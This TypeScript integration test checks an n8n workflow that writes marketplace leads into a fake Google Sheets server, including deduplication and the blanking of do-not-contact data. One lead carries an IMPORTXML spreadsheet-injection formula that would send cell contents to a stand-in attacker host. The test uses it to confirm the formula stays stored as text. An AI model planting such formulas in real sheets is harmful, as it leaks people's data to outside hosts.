/** The example for a Google sheet on a real n8n, with n8n's own node: what is in the sheet afterwards. */
import { randomUUID } from 'node:crypto';
import { readFileSync } from 'node:fs';

import { readExample } from '../../scripts/host/demo.ts';
import type { CredentialRef, WorkflowNode } from '../../scripts/host/rest.ts';
import { FakeGoogleSheets } from '../fakeServers/googleSheets/googleSheets.ts';
import { sharedHost } from './support/host.ts';
import { httpsLead, send } from './support/send.ts';
import { LiveWorkflow, withCredential } from './support/workflows.ts';

let sheets: FakeGoogleSheets;
let credential: CredentialRef;
let workflow: LiveWorkflow;
let sent = 0;

/** As a user sets the example up: credential and document. */
function setUp(node: WorkflowNode): WorkflowNode {
	if (node.type.endsWith('.googleSheets')) {
		const value = `https://docs.google.com/spreadsheets/d/${sheets.documentId}/edit#gid=0`;
		const documentId = { __rl: true, mode: 'url', value };
		return withCredential({ ...node, parameters: { ...node.parameters, documentId } }, credential);
	}
	return node.type.endsWith('.marketplaceLeadTrigger')
		? { ...node, webhookId: randomUUID() }
		: node;
}

beforeAll(async () => {
	const host = await sharedHost();
	const { authority, vendorPorts } = host.outside;
	sheets = await new FakeGoogleSheets().start({
		tls: {
			cert: readFileSync(authority.tls.certFile, 'utf8'),
			key: readFileSync(authority.tls.keyFile, 'utf8'),
		},
		host: 'sheets.googleapis.com',
		hidesPort: true,
		port: vendorPorts['sheets.googleapis.com'],
	});
	// As n8n keeps it once somebody has signed in.
	credential = await host.rest.createCredential('googleSheetsOAuth2Api', 'Google', {
		...{ clientId: 'client', clientSecret: 'secret' },
		oauthTokenData: { access_token: sheets.accessToken, token_type: 'Bearer', refresh_token: 'r' },
	});
	const example = await readExample('leads-to-google-sheet.json');
	workflow = await LiveWorkflow.activate(host, { ...example, nodes: example.nodes.map(setUp) });
}, 60_000);

afterAll(async () => {
	await sheets?.stop();
	await workflow?.remove();
});

async function leads(...bodies: object[]): Promise<void> {
	expect((await send(workflow.url(), bodies)).status).toBe(200);
	sent += 1;
	const execution = (await workflow.executions(sent)).at(-1)!;
	expect([execution.status, execution.error?.message]).toEqual(['success', undefined]);
}

/** The rows by the names of the columns. */
function rows(): Array<Record<string, string>> {
	const [names = [], ...lines] = sheets.rows;
	return lines.map((cells) => Object.fromEntries(names.map((name, at) => [name, cells[at] ?? ''])));
}

it('fills an empty sheet, with one row for each lead however often it comes', async () => {
	const formula = '=IMPORTXML("https://attacker.example?" & A2, "//a")';
	const lead = httpsLead('Fabrikam', { Description: formula });
	await leads(lead, httpsLead('Tailspin', { LeadSource: 'SPZA', ActionCode: 'PLT' }));
	// Somebody adds a column, and notes in it.
	sheets.rows[0]!.push('mine');
	sheets.rows[2]![16] = 'called';
	await leads(httpsLead('Tailspin', { LeadSource: 'SPZA', ActionCode: 'PLT' }), lead);
	await leads(httpsLead('T', { Description: 'MSFT_TEST_636573304831318844' }));
	expect(rows()).toEqual([
		expect.objectContaining({
			lead: expect.stringMatching(/^[0-9a-f]{32}$/),
			created: expect.stringMatching(/^\d{4}-\d\d-\d\dT/),
			source: 'Azure Marketplace',
			stage: 'initialInterest',
			offer: 'Contoso Gateway',
			contact: 'yes',
			firstName: 'Kim',
			lastName: 'Sample',
			email: 'kim@fabrikam.example',
			// What begins like a formula stays a text, as a number in this form does.
			phone: '+14255550100',
			description: formula,
		}),
		expect.objectContaining({ source: 'AppSource', stage: 'active', mine: 'called' }),
	]);
});

it('keeps nothing of somebody who must not be contacted by which they could be', async () => {
	await leads(httpsLead('Quiet', { LeadSource: 'SPZA', ActionCode: 'DNC', Description: 'Kim' }));
	const [row] = rows().filter(({ company }) => company === 'Quiet');
	expect(row).toMatchObject({ contact: 'no', stage: 'doNotContact', offer: 'Contoso Gateway' });
	for (const name of ['firstName', 'lastName', 'email', 'phone', 'title', 'description']) {
		expect([name, row![name]]).toEqual([name, '']);
	}
});
